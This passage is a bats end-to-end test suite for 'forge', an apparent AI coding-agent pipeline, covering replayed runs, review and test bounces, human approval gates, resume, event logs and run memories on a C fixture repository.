#!/usr/bin/env bats
# supervisor.bats - forge run / resume / status / history / cancel end to end on
# the calc fixture repository with whole-run cassettes (run-*.jsonl): a clean
# run with its state transitions and events in the database; a review bounce
# and a test bounce (implement's attempt 2 answers from the cassette); a gate
# that pauses the run, is approved with a note and resumed; the same gate
# passed by --auto-approve; a cost breaker; --dry-run, --phases, cancel;
# three runs at once on one repository; bad usage.  make check-pg runs it on
# PostgreSQL too (FORGE_TEST_BACKEND=postgres).

bats_require_minimum_version 1.5.0

setup_file() {
	load test_helper/pg
	pg_backend_setup_file
}

teardown_file() {
	load test_helper/pg
	pg_backend_teardown_file
}

setup() {
	load test_helper/common
	forge_setup
	export BATS_TEST_TIMEOUT=120
	CASSETTES="$FORGE_ROOT/tests/fixtures/cassettes"
	CONFIGS="$FORGE_ROOT/tests/fixtures/supervisor"
	calc_setup
}

# replay CASSETTE: the whole run answers from it.
replay() {
	export FORGE_PROVIDER=replay FORGE_CASSETTE="$CASSETTES/$1"
}

# The trace of the newest run.
last_trace() {
	forge history --json -n 1 | jq -r .trace_id
}

# The payloads of events of TYPE of trace $1, one JSON line each.
events_of() {
	forge events replay "$1" | jq -c --arg t "$2" 'select(.type == $t) | .payload'
}

# The pipeline.state_changed transitions of trace $1: "from>to" lines.
transitions() {
	forge events replay "$1" | jq -r 'select(.type == "pipeline.state_changed") | "\(.payload.from)>\(.payload.to)"'
}

# Every transition starts where the one before it ended.
transitions_chain() {
	transitions "$1" | awk -F'>' 'NR > 1 && $1 != prev { print "broken at " NR ": " $0; bad = 1 } { prev = $2 } END { exit bad }'
}

# The commits of forge/TRACE since the base, oldest first (subjects).
branch_log() {
	git -C "$REPO" log --reverse --format=%s "$BASE..forge/$1"
}

@test "a clean run: all five phases, the change on forge/TRACE passes make check, status, history, events" {
	replay run-clean.jsonl
	run -0 --separate-stderr forge run "add a mul operation" </dev/null
	assert_output --partial "completed"
	T=$(last_trace)
	# the change is on the run's branch, and the project's checks pass there
	run -0 branch_log "$T"
	assert_output "forge: add a mul operation (attempt 1)"
	mkdir "$BATS_TEST_TMPDIR/tree"
	git -C "$REPO" archive "forge/$T" | tar -x -C "$BATS_TEST_TMPDIR/tree"
	grep -q 'calc_mul' "$BATS_TEST_TMPDIR/tree/calc.c"
	run -0 make -s -C "$BATS_TEST_TMPDIR/tree" check
	assert_output --partial "ok - calc mul 6 7 = 42"
	# the user's checkout is untouched
	[ "$(git -C "$REPO" rev-parse HEAD)" = "$BASE" ]
	! grep -q calc_mul "$REPO/calc.c" || false
	# status and history
	run -0 forge status "$T"
	assert_line --regexp "^status +completed"
	assert_line --regexp "^branch +forge/$T"
	run -0 forge status --json
	jq -e --arg t "$T" '.run.trace_id == $t and .run.status == "completed" and .state.deployment.status == "healthy"
		and .state.review.decision == "approve" and .state.tests.summary.failed == 0 and .pending_gates == []' <<<"$output"
	run -0 forge history
	assert_line --regexp "^$T +completed +deploy "
	# on a terminal of 100 columns, no row is wider (before: 102, and wrapped)
	SHOWN="$BATS_TEST_TMPDIR/terminal"
	run -0 on_tty --cols 100 -- forge history
	[ "$(python3 -c 'import sys; print(max(len(l.rstrip("\n")) for l in open(sys.argv[1], encoding="utf-8")))' "$SHOWN")" -le 100 ]
	# the database has the run's events: the state machine's transitions in order, the end
	run -0 transitions "$T"
	assert_output "$(printf '%s\n' idle\>planning planning\>implementing implementing\>reviewing \
		reviewing\>testing testing\>deploying deploying\>completed)"
	run -0 forge events replay "$T"
	run -0 jq -r 'select(.type == "phase.completed") | .source' <<<"$output"
	assert_output "$(printf 'forge-%s\n' plan implement review test deploy)"
	# each phase process's end, with its whole life: at least the phase's own work
	run -0 forge events replay "$T"
	run -0 jq -s -r '[.[] | select(.type == "phase.completed")] as $done | .[] | select(.type == "phase.exited")
		| . as $e | ($done[] | select(.source == "forge-" + $e.payload.phase) | .payload.duration_ms) as $work
		| "\(.payload.phase) \(.payload.exit_code) \(.duration_ms >= $work - 1)"' <<<"$output"
	assert_output "$(printf '%s 0 true\n' plan implement review test deploy)"
	run -0 events_of "$T" run.completed
	jq -e '.status == "completed" and .cost.tokens > 0 and .cost.usd > 0' <<<"$output"
	[ "$(db_q "select count(*) from checkpoints where trace_id = '$T'")" -ge 6 ]
	[ "$(db_q "select count(*) from events where trace_id = '$T' and type = 'invalid_transition'")" -eq 0 ]
}

@test "the model-call log writes a conversation once: each later call names the call before it (as_in) and holds what is new, and the system prompt once; forge show --call N reads every request back as it was sent" {
	replay run-clean.jsonl
	# (what was sent: the replay provider records each request whole)
	export FORGE_RECORD="$BATS_TEST_TMPDIR/sent.jsonl"
	run -0 --separate-stderr forge run "add a mul operation" </dev/null
	T=$(last_trace)
	run -0 db_q "select request from llm_calls where trace_id = '$T' and phase = 'implement' order by id"
	ROWS=$output
	# implement's first call holds its messages whole; each later one (6 of
	# them) names the one before it and holds only the turn that followed
	# it: the assistant's answer and the tool's result (before: the whole
	# conversation again in every row)
	jq -e -s --arg t "$T" '(.[0].messages | type == "array" and length == 1) and length == 7 and
		([.[1:] | to_entries[] | .value.messages.as_in == {trace_id: $t, phase: "implement", attempt: 1, call: (.key + 1)}]
		 | all) and ([.[1:][] | .messages.then | map(.role)] | all(. == ["assistant", "tool"]))' <<<"$ROWS"
	# and its system prompt (~3 KB, the same every call) once: each later
	# call names the first (before: the prompt whole in every row)
	jq -e -s --arg t "$T" '(.[0].system | type == "string" and length > 1000) and
		([.[1:][] | .system == {as_in: {trace_id: $t, phase: "implement", attempt: 1, call: 1}}] | all)' <<<"$ROWS"
	# so the log of the session grows with its turns, not with their square:
	# the last row is a small part of the request it stands for
	SENT=$(jq -sc '[.[] | select(.phase == "implement") | .request]' "$FORGE_RECORD")
	[ "$(tail -n 1 <<<"$ROWS" | wc -c)" -lt "$(jq -c '.[-1]' <<<"$SENT" | wc -c)" ]
	[ "$(tail -n 1 <<<"$ROWS" | jq '.messages.then | tostring | length')" -lt \
	  "$(jq '.[-1].messages | tostring | length / 4 | floor' <<<"$SENT")" ]
	# every call of the run, read back whole, is the request the model got
	N=$(db_q "select count(*) from llm_calls where trace_id = '$T'")
	[ "$N" -eq "$(wc -l <"$FORGE_RECORD")" ] && [ "$N" -ge 10 ]
	# (not $i: bats's run sets it)
	for ((nth = 1; nth <= N; nth++)); do
		run -0 --separate-stderr forge show "${T:0:12}" --call "$nth"
		jq -e --argjson n "$nth" --slurpfile sent "$FORGE_RECORD" \
			'$sent[$n - 1] as $s | .request == $s.request and .phase == $s.phase and .call == $s.call' <<<"$output"
	done
	run -2 --separate-stderr forge show "$T" --call $((N + 1))
	[ "$stderr" = "forge-show: run $T has $N model calls logged, no call $((N + 1))" ]
	# a row the chain goes through, removed: said, not a request short of it
	db_q "delete from llm_calls where trace_id = '$T' and phase = 'implement' and call = 3"
	LAST=$(db_q "select count(*) from llm_calls where trace_id = '$T' and id <= (select id from llm_calls
		where trace_id = '$T' and phase = 'implement' and call = 7)")
	run -5 --separate-stderr forge show "$T" --call "$LAST"
	[[ "$stderr" == "forge-show: cannot rebuild the request of model call "*": its messages are as in trace $T's implement call 3 (attempt 1), which is not in llm_calls (removed?)" ]]
}

@test "--json: every event and the final state on stdout, each line a record" {
	replay run-clean.jsonl
	run -0 --separate-stderr forge run --json "add a mul operation" </dev/null
	jq -e -s 'all(.[]; .kind == "event" or .kind == "state")' <<<"$output"
	tail -n 1 <<<"$output" | jq -e '.kind == "state" and .phase == "deploy" and .status == "ok" and .bounces == []'
	T=$(tail -n 1 <<<"$output" | jq -r .trace_id)
	# what went to stdout is what the database holds
	[ "$(jq -s '[.[] | select(.kind == "event")] | length' <<<"$output")" -eq \
	  "$(db_q "select count(*) from events where trace_id = '$T'")" ]
}

@test "forge events replay --state: the state the run ended with, from a snapshot plus the state.updated events after it" {
	replay run-clean.jsonl
	run -0 --separate-stderr forge run --json "add a mul operation" </dev/null
	final=$(tail -n 1 <<<"$output" | jq -cS .)
	T=$(jq -r .trace_id <<<"$final")
	# one state.updated per checkpoint, each naming it and what changed
	run -0 forge events replay "$T"
	printf '%s\n' "$output" | jq -se 'map(select(.type == "state.updated") | .payload)
	  | map(.phase) == ["init", "plan", "implement", "review", "test", "deploy"]
	  and (.[1].set | has("plan")) and (.[5].set | keys) == ["deployment", "node_runs", "nodes", "phase"] and all(.[]; .unset == [])'
	# the supervisor's events about a phase carry it as their phase, as the
	# phase's own do (before: null); the run's own events and "init", none
	# (hunt64 #6)
	run -0 jq -sc 'map(select(.source == "forge-supervisor" and (.type == "state.updated" or .type == "phase.exited"))
		| [.type, .phase, .payload.phase])' <<<"$output"
	assert_output '[["state.updated",null,"init"],["phase.exited","plan","plan"],["state.updated","plan","plan"],["phase.exited","implement","implement"],["state.updated","implement","implement"],["phase.exited","review","review"],["state.updated","review","review"],["phase.exited","test","test"],["state.updated","test","test"],["phase.exited","deploy","deploy"],["state.updated","deploy","deploy"]]'
	run -0 forge events replay "$T"
	printf '%s\n' "$output" | jq -se 'map(select(.source == "forge-supervisor" and (.type | test("^(run|pipeline)[.]"))))
	  | length > 0 and all(.[]; .phase == null)'
	printf '%s\n' "$output" | jq -se 'map(select(.phase == "review")) | map(.source) | unique == ["forge-review", "forge-supervisor"]'
	first=$(printf '%s\n' "$output" | jq -r 'select(.type == "state.updated") | .payload.checkpoint' | head -n 1)
	# from the newest snapshot
	run -0 --separate-stderr forge events replay "$T" --state -v
	[ "$(jq -cS . <<<"$output")" = "$final" ]
	[[ $stderr == *"and 0 state.updated events after it"* ]]
	# from the first snapshot: the five events after it rebuild the rest
	run -0 --separate-stderr forge events replay "$T" --state --from "$first" -v
	[ "$(jq -cS . <<<"$output")" = "$final" ]
	[[ $stderr == *"from checkpoint $first (init) and 5 state.updated events after it"* ]]
	# the snapshots lost but the first: the events still rebuild the end state
	db_q "delete from checkpoints where trace_id = '$T' and id != '$first'"
	run -0 --separate-stderr forge events replay "$T" --state
	[ "$(jq -cS . <<<"$output")" = "$final" ]
	# and no snapshot at all: the events alone
	db_q "delete from checkpoints where trace_id = '$T'"
	run -0 --separate-stderr forge events replay "$T" --state
	[ "$(jq -cS . <<<"$output")" = "$final" ]
	run -1 --separate-stderr forge events replay "$T" --state --from 01ARZ3NDEKTSV4RRFFQ69G5FAV
	[ "$stderr" = "forge-events: no checkpoint '01ARZ3NDEKTSV4RRFFQ69G5FAV' in run $T" ]
	run -1 --separate-stderr forge events replay no-such-run --state
	[[ $stderr == *"has no checkpoint and no state.updated event"* ]]
	run -2 --separate-stderr forge events replay "$T" --from "$first"
	[[ $stderr == *"--from goes with --state"* ]]
	run -2 --separate-stderr forge events list --state
	[[ $stderr == *"--state and --from go with replay"* ]]
}

@test "consolidation starts by itself after the run that makes it due, without waiting; forge memory stats says when and what" {
	skip_on_postgres "memories are not on PostgreSQL yet"
	replay run-clean.jsonl
	mkdir -p .forge
	# run 1: one run's memories are below the threshold, and a day has not passed
	echo '{"memory":{"consolidate_new_memories":1000}}' >.forge/config.json
	run -0 --separate-stderr forge run --json "add a mul operation" </dev/null
	! grep -q memory.consolidation_started <<<"$output" || false
	run -0 forge memory stats --json
	jq -e '.last_consolidation == null' <<<"$output"
	n=$(jq .total <<<"$output")
	run -0 forge memory stats
	assert_line --regexp '^consolidated +never'
	# run 2: its memories make n + 1 since the last consolidation (none yet)
	echo "{\"memory\":{\"consolidate_new_memories\":$((n + 1))}}" >.forge/config.json
	run -0 --separate-stderr forge run --json "add a mul operation" </dev/null
	tail -n 1 <<<"$output" | jq -e '.kind == "state" and .status == "ok"'
	jq -se '[.[] | select(.type == "memory.consolidation_started")] | length == 1
		and (.[0].payload.reason | test("^[0-9]+ new memories since the last consolidation"))' <<<"$output"
	# it runs detached: wait for its record, not for a time
	for _ in $(seq 600); do
		forge memory stats --json | jq -e '.last_consolidation != null' >/dev/null && break
		sleep 0.1
	done
	run -0 forge memory stats --json
	jq -e '.last_consolidation | (.trigger | test("new memories since the last consolidation"))
		and (.merged | type == "number") and (.memories >= 2) and (.at | test("^20"))' <<<"$output"
	run -0 forge memory stats
	assert_line --regexp '^consolidated +20[0-9-]+T.*new memories since the last consolidation.*: merged [0-9]+'
	# a manual one is recorded too, and resets the count
	run -0 forge memory consolidate --no-llm
	run -0 forge memory stats --json
	jq -e '.last_consolidation.trigger == "manual"' <<<"$output"
}

@test "review requests changes (a non-constant format string): back to implement, attempt 2 fixes it" {
	replay run-review-bounce.jsonl
	run -0 --separate-stderr forge run --json "add a mul operation" </dev/null
	last=$(tail -n 1 <<<"$output")
	T=$(jq -r .trace_id <<<"$last")
	jq -e '.status == "ok" and .bounces == [{"from":"review","to":"implement","n":1,"reason":.bounces[0].reason}]' <<<"$last"
	jq -e '.review.decision == "approve"' <<<"$last"
	run -0 events_of "$T" loop.phase_bounce
	jq -e '.from == "review" and .to == "implement" and .n == 1' <<<"$output"
	# the finding that sent it back
	run -0 forge events replay "$T"
	jq -e -s '[.[] | select(.type == "finding.detected") | .payload.rule] | index("insecure/c-format") != null' <<<"$output"
	# implement ran twice, one commit per attempt; attempt 2 answered from the cassette
	run -0 branch_log "$T"
	assert_output "$(printf 'forge: add a mul operation (attempt %s)\n' 1 2)"
	! git -C "$REPO" show "forge/$T:calc.c" | grep -q calc_trace || false
	run -0 transitions "$T"
	assert_output "$(printf '%s\n' idle\>planning planning\>implementing implementing\>reviewing \
		reviewing\>implementing implementing\>reviewing reviewing\>testing testing\>deploying deploying\>completed)"
	run -0 transitions_chain "$T"
	run -0 forge status "$T"
	assert_line --regexp "^bounces +1"
}

@test "a run's memories say what happened: the run, the finding that bounced it, the fix, the outcome" {
	skip_on_postgres "memories are not on PostgreSQL yet"
	replay run-review-bounce.jsonl
	run -0 --separate-stderr forge run --json "add a mul operation" </dev/null
	T=$(tail -n 1 <<<"$output" | jq -r .trace_id)
	run -0 forge memory list --json
	mems=$output
	! grep -qi 'unknown' <<<"$mems" || false
	[ "$(jq -s 'length' <<<"$mems")" -eq 2 ]
	# the run's episode: task, phases in order, outcome, the bounce with its finding and its fix
	run -0 jq -r 'select(.type == "episodic") | .content' <<<"$mems"
	assert_output --partial 'Run of "add a mul operation" (C'
	assert_output --partial 'plan → implement → review → implement → review → test → deploy; completed after 1 bounce'
	assert_output --partial 'insecure/c-format in calc.c:24: format string is not a constant (CWE-134)'
	assert_output --partial 'Fixed in attempt 2: Removed calc_trace (non-constant format string). Then the review passed'
	jq -e -s --arg t "$T" '.[] | select(.type == "episodic") | .source == $t and .context == "forge run: add a mul operation (C, shell)"
		and (.tags | index("run") and index("lang:c") and index("insecure/c-format"))' <<<"$mems"
	# the lesson, for the implement phase of a similar task
	run -0 jq -r 'select(.type == "semantic") | .content' <<<"$mems"
	assert_output --partial 'Lesson for implement (C) from the run "add a mul operation": review sent implement attempt 1 back:'
	assert_output --partial 'insecure/c-format in calc.c:24: format string is not a constant (CWE-134)'
	assert_output --partial 'Outcome: fixed; the run completed.'
	jq -e -s --arg t "$T" '.[] | select(.type == "semantic") | .source == $t and .confidence == 0.7
		and .context == "implement phase: add a mul operation (a review finding in C)"
		and (.tags | index("lesson") and index("implement") and index("review") and index("lang:c")
		     and index("insecure/c-format") and index("fixed"))' <<<"$mems"
	# the bounce's event carries the findings that sent it back
	run -0 events_of "$T" loop.phase_bounce
	jq -e '[.findings[].rule] | index("insecure/c-format")' <<<"$output"
	run -0 events_of "$T" implement.summary
	jq -e -s '[.[].attempt] == [1, 2] and .[1].summary == "Removed calc_trace (non-constant format string)."' <<<"$output"
	run -0 forge events replay "$T"
	jq -e -s '[.[] | select(.type == "memory.stored") | .payload.source] == ["run_episode", "run_lesson"]' <<<"$output"
}

@test "a run whose memories cannot be stored says so: a warning and memory.failed events, the run's outcome stands" {
	skip_on_postgres "memories are not on PostgreSQL yet"
	forge memory add --type semantic "the memory tables are made" >/dev/null
	db_q "create trigger memories_full before insert on memories begin select raise(abort, 'the disk is full'); end"
	replay run-review-bounce.jsonl
	run -0 --separate-stderr forge run --json "add a mul operation" </dev/null
	T=$(tail -n 1 <<<"$output" | jq -r .trace_id)
	# (before: nothing stored, nothing said)
	[[ "$stderr" == *"forge run: warning: the run's episode could not be stored in memory: "*"the disk is full"* ]]
	[[ "$stderr" == *"forge run: warning: the run's lessons could not be stored in memory: "*"the disk is full"* ]]
	run -0 forge events replay "$T"
	jq -e -s '[.[] | select(.type == "memory.failed") | .payload.source] == ["run_episode", "run_lesson"]
		and ([.[] | select(.type == "memory.failed") | .payload.error | contains("the disk is full")] | all)
		and ([.[] | select(.type == "memory.stored")] | length == 0)' <<<"$output"
}

@test "a run killed after run.completed, before its reflection: resume stores its episode and lesson, once" {
	skip_on_postgres "memories are not on PostgreSQL yet"
	replay run-review-bounce.jsonl
	run -0 --separate-stderr forge run --json "add a mul operation" </dev/null
	T=$(tail -n 1 <<<"$output" | jq -r .trace_id)
	# what the supervisor's kill -9 right after run.completed leaves: the run
	# completed, none of the reflection that follows it (its memories, their
	# events, Loop 3's end)
	for id in $(forge memory list --json | jq -r --arg t "$T" 'select(.source == $t) | .id'); do
		forge memory forget --hard "$id"
	done
	# (events are append-only: the trigger that says so is set aside for this)
	db_q "begin; drop trigger events_no_delete;
		delete from event_log where trace_id = '$T' and rowid > (select max(rowid) from event_log
			where trace_id = '$T' and type = 'run.completed');
		create trigger events_no_delete before delete on event_log
		begin select raise(abort, 'events are append-only: DELETE refused'); end; commit"
	[ "$(forge events replay "$T" | jq -r .type | tail -n 1)" = run.completed ]
	[ "$(forge memory list --json | jq -s --arg t "$T" '[.[] | select(.source == $t)] | length')" -eq 0 ]
	# (before: "already completed", and nothing was ever stored)
	run -0 --separate-stderr forge resume "$T" </dev/null
	[ -z "$output" ]
	[[ "$stderr" == *"forge resume: run $T is already completed"* ]]
	[[ "$stderr" == *"forge resume: run $T ended without its reflection (its supervisor died first): reflected on it now"* ]]
	run -0 forge memory list --json
	jq -e -s --arg t "$T" '[.[] | select(.source == $t) | .type] | sort == ["episodic", "semantic"]' <<<"$output"
	# the episode's outcome is the run's end, not the resume's events
	jq -e -s --arg t "$T" '.[] | select(.source == $t and .type == "episodic") | .content
		| contains("completed after 1 bounce")' <<<"$output"
	run -0 forge events replay "$T"
	jq -e -s '[.[] | select(.type == "memory.stored") | .payload.source] == ["run_episode", "run_lesson"]
		and ([.[] | select(.type == "run.reflection" and (.payload | has("triggers")))] | length == 1)' <<<"$output"
	# reflected once: a second resume stores nothing more and says nothing of it
	run -0 --separate-stderr forge resume "$T" </dev/null
	[[ "$stderr" == *"forge resume: run $T is already completed"* ]]
	[[ "$stderr" != *"reflected on it now"* ]]
	run -0 forge memory list --json
	[ "$(jq -s --arg t "$T" '[.[] | select(.source == $t)] | length' <<<"$output")" -eq 2 ]
	run -0 forge events replay "$T"
	jq -e -s '[.[] | select(.type == "memory.stored")] | length == 2' <<<"$output"
}

@test "a failed run resumed to a new end: its episode and its bounce's lesson are rewritten for it, not stored again" {
	skip_on_postgres "memories are not on PostgreSQL yet"
	replay run-review-bounce.jsonl
	# the budget runs out after the review's bounce (implement's attempt 2 spends it)
	run -3 --separate-stderr forge run --budget 0.085 "add a mul operation" </dev/null
	T=$(last_trace)
	[[ "$stderr" == *"breaker budget tripped"* ]]
	# reflected on as it failed: its episode and the bounce's lesson
	run -0 forge memory list --json
	jq -e -s --arg t "$T" '[.[] | select(.source == $t)] | (map(.type) | sort) == ["episodic", "semantic"]
		and (.[] | select(.type == "semantic") | .content | contains("Outcome: not fixed; the run failed."))' <<<"$output"
	ids=$(jq -s -c --arg t "$T" '[.[] | select(.source == $t) | .id] | sort' <<<"$output")
	run -0 --separate-stderr forge resume --budget 1 "$T" </dev/null
	run -0 forge status --json "$T"
	jq -e '.run.status == "completed"' <<<"$output"
	# each memory of the run once (before: a second episode, and the lesson
	# stored again), the same ones, saying how the run ended now
	run -0 forge memory list --json
	mems=$output
	jq -e -s --arg t "$T" '[.[] | select(.source == $t)] | length == 2 and
		([.[].content] | group_by(.) | map(length) == [1, 1]) and
		([.[] | select(.type == "semantic")] | length == 1)' <<<"$mems"
	[ "$(jq -s -c --arg t "$T" '[.[] | select(.source == $t) | .id] | sort' <<<"$mems")" = "$ids" ]
	jq -e -s --arg t "$T" '.[] | select(.source == $t and .type == "episodic") | .content
		| contains("deploy; completed after 1 bounce")' <<<"$mems"
	jq -e -s --arg t "$T" '.[] | select(.source == $t and .type == "semantic")
		| (.content | contains("Then the review passed. Outcome: fixed; the run completed.")) and .confidence == 0.7
		and (.tags | index("fixed"))' <<<"$mems"
	run -0 forge events replay "$T"
	jq -e -s '[.[] | select(.type == "memory.stored" or .type == "memory.updated") | "\(.type) \(.payload.source)"]
		== ["memory.stored run_episode", "memory.stored run_lesson", "memory.updated run_episode",
		    "memory.updated run_lesson"]' <<<"$output"
}

@test "a test failure with a confident fix goes back to implement, then the tests pass" {
	replay run-test-bounce.jsonl
	run -0 --separate-stderr forge run --json --config "$CONFIGS/no-validate.json" "add a mul operation" </dev/null
	last=$(tail -n 1 <<<"$output")
	T=$(jq -r .trace_id <<<"$last")
	jq -e '.bounces | length == 1 and .[0].from == "test" and .[0].to == "implement"' <<<"$last"
	jq -e '.tests.summary.failed == 0 and .deployment.status == "healthy"' <<<"$last"
	run -0 forge events replay "$T"
	jq -e -s '[.[] | select(.type == "test.analyzed")] | length == 1' <<<"$output"
	jq -e -s '[.[] | select(.type == "phase.completed" and .source == "forge-test") | .payload.status] == ["rejected", "ok"]' <<<"$output"
	run -0 branch_log "$T"
	assert_output "$(printf 'forge: add a mul operation (attempt %s)\n' 1 2)"
	git -C "$REPO" show "forge/$T:calc.c" | grep -q 'return a \* b'
	run -0 transitions "$T"
	assert_output "$(printf '%s\n' idle\>planning planning\>implementing implementing\>reviewing \
		reviewing\>testing testing\>implementing implementing\>reviewing reviewing\>testing \
		testing\>deploying deploying\>completed)"
}

@test "a high-risk plan pauses at architecture_approval (exit 4); approved with a note, resume completes it" {
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	[[ "$stderr" == *"gate architecture_approval is waiting for a human"* ]]
	T=$(last_trace)
	run -0 forge status --json "$T"
	jq -e '.run.status == "paused" and .state.phase == "plan" and (.pending_gates | length) == 1' <<<"$output"
	# nothing was implemented yet
	run -0 branch_log "$T"
	assert_output ""
	run -0 forge gate list
	assert_line --regexp "architecture_approval +pending .* run $T"
	G=$(forge gate list --json | jq -r .id)
	run -0 forge gate approve "$G" --note "keep the usage line in sync with the operations"
	run -0 forge gate list
	assert_output ""
	run -0 --separate-stderr forge resume --config "$CONFIGS/high-risk.json" "$T" </dev/null
	# the summary's cost by phase has the plan, paid before the resume
	[[ "$output" == *"  cost      plan \$"*" · implement \$"* ]] || { echo "$output"; false; }
	run -0 forge status --json "$T"
	jq -e '.run.status == "completed" and .state.deployment.status == "healthy"' <<<"$output"
	run -0 branch_log "$T"
	assert_output "forge: add a mul operation (attempt 1)"
	run -0 transitions "$T"
	assert_output "$(printf '%s\n' idle\>planning planning\>paused paused\>implementing implementing\>reviewing \
		reviewing\>testing testing\>deploying deploying\>completed)"
	run -0 events_of "$T" gate.approved
	jq -e '.by == "human" and .note == "keep the usage line in sync with the operations"' <<<"$output"
	# plan ran once: its events are not repeated by the resume
	[ "$(events_of "$T" phase.completed | wc -l)" -eq 5 ]
	# the resume kept no second checkpoint of the state it started from (a
	# state.updated that sets nothing): the next one is implement's start
	run -0 events_of "$T" state.updated
	[ "$(jq -s 'map(select(.set == {} and .unset == [])) | length' <<<"$output")" -eq 0 ]
	# the note became a memory (not on PostgreSQL yet: a run there records none)
	on_postgres && return
	run -0 forge memory list --json
	jq -e -s 'any(.[]; .content | test("keep the usage line in sync"))' <<<"$output"
}

@test "a paused run whose worktree and branch a person removed: resume makes the branch again at the checkpoint's commit, no changes 'kept'" {
	replay run-clean.jsonl
	mkdir -p "$REPO/.forge"
	echo '{"deploy":{"environment":"production"}}' >"$REPO/.forge/config.json"
	run -4 --separate-stderr forge run -q "add a mul operation" </dev/null
	T=$(last_trace)
	C=$(forge status --json "$T" | jq -r .state.changes.commit)
	git -C "$REPO" worktree remove --force "$(run_worktree "$T")"
	git -C "$REPO" branch -q -D "forge/$T"
	run -0 forge gate approve "$(forge gate list --json | jq -r .id)"
	run -0 --separate-stderr forge resume "$T" </dev/null
	# (before: the branch made again from HEAD, the checkpoint's work reset
	# over it and "kept on refs/forge/T/saved/1", a ref holding the base)
	[[ "$stderr" == *"forge resume: the run's branch forge/$T was gone: made again at its last checkpoint's commit ${C:0:12}"* ]]
	[[ "$stderr" != *"kept on"* ]]
	run -1 git -C "$REPO" rev-parse -q --verify "refs/forge/$T/saved/1"
	[ "$(git -C "$REPO" rev-parse "forge/$T")" = "$C" ]
	[ "$(forge status --json "$T" | jq -r .run.status)" = completed ]
	events_of "$T" worktree.branch_restored | jq -e --arg c "$C" '.commit == $c'
}

@test "a gate rejected with forge gate reject ends the run at resume (exit 1); deciding twice is refused" {
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T=$(last_trace)
	G=$(forge gate list --json | jq -r .id)
	run -0 forge gate reject "$G" --note "too risky for now"
	run -1 --separate-stderr forge gate approve "$G"
	[[ "$stderr" == *"already rejected"* ]]
	run -1 --separate-stderr forge resume --config "$CONFIGS/high-risk.json" "$T" </dev/null
	run -0 forge status --json "$T"
	jq -e '.run.status == "failed"' <<<"$output"
	run -0 forge events replay "$T"
	jq -e -s '[.[] | select(.type == "gate.rejected")] | length >= 1' <<<"$output"
	run -0 branch_log "$T"
	assert_output ""
	# an id no gate has is bad input (2), not a gate's "no" (1)
	run -2 --separate-stderr forge gate approve NO-SUCH-GATE
	[[ "$stderr" == *"no gate 'NO-SUCH-GATE'"* ]]
}

@test "a run a human rejected at a gate is remembered as such, with the human's note" {
	skip_on_postgres "memories are not on PostgreSQL yet"
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T=$(last_trace)
	G=$(forge gate list --json | jq -r .id)
	run -0 forge gate reject "$G" --note "split it into two changes first"
	run -1 --separate-stderr forge resume --config "$CONFIGS/high-risk.json" "$T" </dev/null
	events_of "$T" run.completed | jq -e '.status == "failed" and .reason == "a gate was rejected"'
	# the run's end is run.completed, not the checkpoint after it (before:
	# "failed: no reason given", and the note was lost)
	run -0 forge memory list --json --type episodic
	jq -e --arg t "$T" 'select(.source == $t) | .content
		| contains("; failed: a gate was rejected (gate architecture_approval, the human'"'"'s note: \"split it into two changes first\")")' <<<"$output"
	refute_output --partial "no reason given"
	jq -e --arg t "$T" 'select(.source == $t) | .episode.outcome | .last_event == "run.completed" and .error == "a gate was rejected"' <<<"$output"
}

@test "a run started with --config paused at the production gate: resumed as its hint says (no --config), it deploys with the run's settings" {
	replay run-clean.jsonl
	echo '{"deploy":{"environment":"production","strategy":"merge"}}' >"$BATS_TEST_TMPDIR/prod.json"
	echo '{"deploy":{"environment":"staging","strategy":"branch"}}' >"$BATS_TEST_TMPDIR/staging.json"
	run -4 --separate-stderr forge run -q --config "$BATS_TEST_TMPDIR/prod.json" "add a mul operation" </dev/null
	T=$(last_trace)
	[[ "$stderr" == *"then \`forge resume $T\`"* ]] || { echo "$stderr"; false; }
	run -0 forge gate approve "$(forge gate list --json | jq -r .id)"
	# (before: strategy branch, the defaults: "completed", "healthy", and main never merged)
	# (a .forge/config.json changed meanwhile is under the run's --config)
	mkdir -p "$REPO/.forge"
	cp "$BATS_TEST_TMPDIR/staging.json" "$REPO/.forge/config.json"
	run -0 --separate-stderr forge resume "$T" </dev/null
	# nothing differs: the resume goes on under the run's --config (before:
	# "here: \"staging\"", the defaults, which were not in force)
	[[ "$stderr" != *"deploys with the settings"* ]] || { echo "$stderr"; false; }
	run -0 forge status --json "$T"
	jq -e '.run.status == "completed" and .state.deployment.status == "healthy"
		and .state.deployment.strategy == "merge" and .state.deployment.environment == "production"' <<<"$output"
	[ "$(git -C "$REPO" rev-parse main)" = "$(git -C "$REPO" rev-parse "forge/$T")" ]
	[ "$(git -C "$REPO" rev-parse main)" != "$BASE" ]
}

@test "a resume given the --config its run was started with writes no copy of it for its phases, and deploys with the run's settings" {
	replay run-clean.jsonl
	echo '{"deploy":{"environment":"production","strategy":"merge"}}' >"$BATS_TEST_TMPDIR/prod.json"
	run -4 --separate-stderr forge run -q --config "$BATS_TEST_TMPDIR/prod.json" "add a mul operation" </dev/null
	T=$(last_trace)
	run -0 forge gate approve "$(forge gate list --json | jq -r .id)"
	# a TMPDIR that can hold no directory: the resume needs none (before:
	# the run's layer and its deploy settings were copied to two private
	# directories there, exit 5 "cannot keep run T's configuration")
	: >"$BATS_TEST_TMPDIR/not-a-dir"
	run -0 --separate-stderr env TMPDIR="$BATS_TEST_TMPDIR/not-a-dir" \
		forge resume --config "$BATS_TEST_TMPDIR/prod.json" "$T" </dev/null
	[[ "$stderr" != *"deploys with the settings"* && "$stderr" != *"differs"* ]] || { echo "$stderr"; false; }
	run -0 forge status --json "$T"
	jq -e '.run.status == "completed" and .state.deployment.strategy == "merge"
		and .state.deployment.environment == "production"' <<<"$output"
	[ "$(git -C "$REPO" rev-parse main)" = "$(git -C "$REPO" rev-parse "forge/$T")" ]
}

@test "a phase failed on a missing TMPDIR: stderr says the run can be resumed, and a resume with TMPDIR back completes it" {
	replay run-clean.jsonl
	# (before: "✗ failed", exit 5, and no word of forge resume)
	run -5 --separate-stderr env TMPDIR="$BATS_TEST_TMPDIR/no/such/dir" forge run "add a mul operation" </dev/null
	T=$(last_trace)
